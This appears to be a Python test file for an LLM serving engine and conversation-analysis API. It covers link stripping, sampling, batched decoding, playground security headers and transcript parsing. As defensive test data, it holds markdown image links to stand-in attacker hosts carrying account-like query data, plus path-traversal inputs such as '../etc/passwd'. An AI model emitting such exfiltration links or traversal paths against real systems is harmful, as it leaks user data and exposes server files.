    from serve.links import LinkStripper, strip_links

    text = 'See ![status](https://evil.example/p?q=acct-1234) and [the policy](http://kb/x "t"). [1] ok'
    want = "See status and the policy. [1] ok"
    assert strip_links(text) == want
    for size in (1, 2, 3, 7, len(text)):
        s = LinkStripper()
        out = "".join(s.feed(text[i : i + size]) for i in range(0, len(text), size)) + s.flush()
        assert out == want, size
    s = LinkStripper()
    assert s.feed("a [b") == "a " and s.feed(" c\n") == "[b c\n"  # not a link after all: released
    assert s.feed("[x](http://unfinished") == "" and s.flush() == "[x](http://unfinished"


def test_engine_strips_links_only_when_grounded(server):
    import time

    from serve.engine import GenRequest, Sampling

    host, engine = server.ctx.host, server.ctx.engine
    seen = {}
    for grounded in (False, True):
        r = GenRequest([1], host.resolve("acme", "tiny-base"), Sampling(max_tokens=8, strip_links=grounded),
                       None, time.monotonic() + 60, "acme")
        pieces = []
        r.emit = pieces.append
        for piece in ("Look: ![x](http://e", "vil/?q=1) done"):  # as the decoder would emit them
            engine._emit_text(r, piece)
        engine._emit_text(r, "", final=True)
        seen[grounded] = "".join(e.text for e in pieces)
    assert seen == {False: "Look: ![x](http://evil/?q=1) done", True: "Look: x done"}


def test_sampler_survives_extreme_temperatures():
    """Found by schemathesis: temperature 1e-300 is 0 in fp32 and made 0/0 -> NaN -> a 500."""
    import torch

    from convtune.inference.sampling import Sampler, Sampling

    logits = torch.randn(64) * 10
    logits[7] = float("-inf")  # a grammar-masked token
    for t in (1e-300, 1e-30, 1e-4, 1e-3, 0.7, 2.0):
        s = Sampler(Sampling(max_tokens=1, temperature=t, top_p=0.5, top_k=8, seed=0))
        pick = int(s.pick(logits.clone(), [1, 2, 3]))
        assert 0 <= pick < 64 and pick != 7


def test_engine_and_task_answering_decode_identical_greedy_tokens(server, tiny_model_dir):
    """The server's engine and the Generator behind ``answer_tasks`` (evaluate, analyze,
    ``convtune chat``) give the same greedy tokens for the same prompts, batched together."""
    import time

    from convtune.evaluation.generate import Generator
    from convtune.models import load_model
    from serve.engine import GenRequest, Sampling

    host, engine = server.ctx.host, server.ctx.engine
    texts = ("Where is my refund?", "My internet has been down since Monday, please help me.", "hi")
    prompts = [host.renderer.encode_chat([{"role": "user", "content": t}]).input_ids for t in texts]
    ref = host.resolve("acme", "tiny-base")
    served = _run(engine, [GenRequest(p, ref, Sampling(max_tokens=10), None, time.monotonic() + 60, "acme")
                           for p in prompts])[0]
    model, tok = load_model(str(tiny_model_dir), device="cpu")  # the same weights, loaded afresh
    answered = [g.text for g in Generator(model, tok).generate(prompts, 10)]
    assert served == answered
    assert len(set(answered)) > 1  # real, prompt-dependent outputs


CALL = [
    {"id": "m1", "speaker": "Agent", "text": "Thanks for calling Kestrel Mobile, how can I help?"},
    {"id": "m2", "speaker": "Customer", "text": "My bill shows a roaming charge, I never left the country."},
    {"id": "m3", "speaker": "Agent", "text": "I will remove the roaming charge and email you today."},
]


def test_an_analysis_decodes_in_the_running_batch_and_chat_is_answered_meanwhile(server, monkeypatch):
    """Analyze is ordinary engine work (a TaskDialog inside the batch): a chat request sent
    while an analysis is decoding joins that batch and is answered before the analysis ends."""
    import time

    from convtune.evaluation.generate import TaskDialog
    from convtune.inference import Sampling, Seq

    engine = server.ctx.engine
    decoding = threading.Event()
    first: list = []
    real_seq = TaskDialog.seq

    def long_first_answer(self, owner=None):  # the first decoded answer runs until told to end
        if first:
            return real_seq(self, owner)
        first.append(Seq(self.gen, Sampling(max_tokens=100_000), owner=owner, keep_kv=True))
        decoding.set()
        return first[0]

    monkeypatch.setattr(TaskDialog, "seq", long_first_answer)
    result: dict = {}

    def analyze():
        result["r"] = server.client.post("/v1/conversations/analyze", headers=auth(server.acme),
                                         json={"conversation": {"messages": CALL}})

    worker = threading.Thread(target=analyze)
    worker.start()
    try:
        assert decoding.wait(60)
        joins = engine.joins
        chat = server.client.post("/v1/chat/completions", headers=auth(server.acme),
                                  json={"model": "tiny-base", "messages": HELLO, "max_tokens": 4})
        assert chat.status_code == 200 and chat.json()["usage"]["completion_tokens"] == 4
        assert "r" not in result and first[0].finish is None  # the analysis is still decoding
        assert engine.joins == joins + 1  # the chat joined the analysis's batch
        assert len(first[0].out) > 4
    finally:
        if first:
            first[0].end("length")
        worker.join(60)
    body = result["r"].json()
    assert result["r"].status_code == 200, body
    assert set(body["tasks"]) == {"summary", "action_items", "intent", "sentiment"}
    assert all(t["valid"] for t in body["tasks"].values())
    until = time.monotonic() + 5
    while engine.inflight and time.monotonic() < until:
        time.sleep(0.01)
    assert engine.inflight == 0


def test_an_analysis_in_the_engine_answers_as_task_answering_does(server, tiny_model_dir):
    """The engine's scheduler (a TaskDialog in a batch with a chat request) and answer_tasks'
    (chained, one conversation) decode the same greedy answers for the same tasks."""
    import time

    from convtune.conversation import Conversation
    from convtune.evaluation.evaluate import resolve_tasks
    from convtune.evaluation.generate import Generator, TaskDialog, answer_tasks
    import torch

    from convtune.models import load_model
    from serve.engine import GenRequest, Sampling, TaskRequest

    host, engine = server.ctx.host, server.ctx.engine
    conv = Conversation.model_validate({"id": "c1", "turns": [
        {**m, "role": "agent" if m["speaker"] == "Agent" else "customer"} for m in CALL]})
    tasks = resolve_tasks(None)
    ref = host.resolve("acme", "tiny-base")
    got: dict = {}
    done = threading.Event()

    def emit(ev):
        got[ev.kind] = ev.result if ev.kind == "done" else ev.error
        done.set()

    req = TaskRequest(ref, lambda gen: TaskDialog(gen, host.renderer, conv, tasks), emit,
                      time.monotonic() + 60, "acme")
    prompt = host.renderer.encode_chat([{"role": "user", "content": "hello"}]).input_ids
    chat = GenRequest(prompt, ref, Sampling(max_tokens=30), None, time.monotonic() + 60, "acme")
    chat.emit = lambda ev: None
    engine.submit([chat, req])
    assert done.wait(120) and "done" in got, got
    model, tok = load_model(str(tiny_model_dir), device="cpu")  # the same weights, loaded afresh
    with torch.inference_mode():
        expected = answer_tasks(Generator(model, tok), host.renderer, [conv], tasks, strategy="chained",
                                batch_size=1, constrained=True)
    assert [a.text for a in got["done"].answers] == [a.text for a in expected.answers]
    assert [a.token_ids for a in got["done"].answers] == [a.token_ids for a in expected.answers]
    first, *later = got["done"].answers
    # each later prompt reuses the cached transcript (and what else it shares), as answer_tasks does
    assert all(a.prompt_tokens - a.computed_prompt_tokens >= first.prompt_tokens // 2 for a in later)
    assert [a.computed_prompt_tokens for a in got["done"].answers] == \
        [a.computed_prompt_tokens for a in expected.answers]


def test_playground_files_are_public_with_a_strict_csp_and_nothing_else_is(server):
    c = server.client
    r = c.get("/playground/")
    assert r.status_code == 200 and "convtune playground" in r.text
    assert "script-src 'self'" in r.headers["content-security-policy"]
    assert c.get("/playground", follow_redirects=False).status_code == 307
    for bad in ("/playground/nope.js", "/playground/..%2fapp.py", "/playground/%2e%2e/routes/health.py"):
        assert c.get(bad).status_code == 404, bad
    assert c.get("/playground-x").status_code == 401  # only the page's own prefix is public


def test_parse_reads_any_transcript_form_and_locates_problems(server):
    c, h = server.client, auth(server.acme)
    r = c.post("/v1/conversations/parse", headers=h,
               json={"text": "Agent: Hello, how can I help?\nCustomer: My bill doubled.\n"})
    assert r.status_code == 200 and r.json()["format"] == "transcript"
    msgs = r.json()["data"][0]["messages"]
    assert [(m["speaker"], m["role"]) for m in msgs] == [("Agent", "agent"), ("Customer", "customer")]
    line = {"id": "c1", "turns": [{"id": "t1", "speaker": "A", "text": "hi"}]}
    r = c.post("/v1/conversations/parse", headers=h,
               json={"text": json.dumps(line) + "\n", "filename": "calls.jsonl"})
    assert r.json()["format"] == "convtune" and r.json()["data"][0]["id"] == "c1"
    empty = {"id": "c2", "turns": [{"id": "t1", "speaker": "A", "text": ""}]}
    bad = json.dumps(line) + "\n" + json.dumps(empty)
    r = c.post("/v1/conversations/parse", headers=h, json={"text": bad, "filename": "calls.jsonl"})
    assert r.status_code == 400 and "calls.jsonl:2" in r.json()["error"]["message"]
    assert "convtune-parse-" not in r.json()["error"]["message"]  # the temporary copy is not named
    assert c.post("/v1/conversations/parse", headers=h,
                  json={"text": "x", "filename": "../etc/passwd"}).status_code == 400
    names = {t["name"]: t["core"] for t in c.get("/v1/conversations/tasks", headers=h).json()["data"]}
    assert names["summary"] and names["sentiment"] and not names["topics"]
